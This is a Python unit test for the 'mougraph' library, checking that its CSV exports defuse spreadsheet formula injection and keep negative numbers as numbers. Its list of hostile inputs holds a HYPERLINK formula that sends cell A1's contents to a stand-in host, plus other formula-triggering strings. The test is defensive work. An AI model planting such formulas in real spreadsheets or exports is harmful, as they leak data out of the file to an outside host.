"""CSV exports cannot run formulas: a cell that a spreadsheet would read as one is text."""
from __future__ import annotations

import csv
from pathlib import Path

from mougraph import rdf
from mougraph.export import export
from mougraph.model import Agreement, Article, Extraction, Organisation

HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"열기")', "+1+1", "-2+3",
           "@SUM(1,2)", "\t=1+1", "=1+1"]


def test_formula_cells_are_neutralised_and_numbers_stay_numbers(tmp_path: Path) -> None:
    parties = tuple(Organisation(name) for name in HOSTILE)
    extraction = Extraction(Article("a", "본문", title=HOSTILE[0]),
                            (Agreement(HOSTILE[3], parties),))
    written = export(rdf.to_dataset([extraction]), tmp_path, formats=("csv",),
                     views=("full", "organisations"), measures=True)
    cells = []
    for path in written:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    labels = {cell for cell in cells if cell.lstrip("'") in HOSTILE}
    assert labels == {f"'{text}" for text in HOSTILE}
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    numbers = [c for c in cells if c.startswith("-")]
    assert all(float(c) <= 0 for c in numbers)  # a negative number is still a number
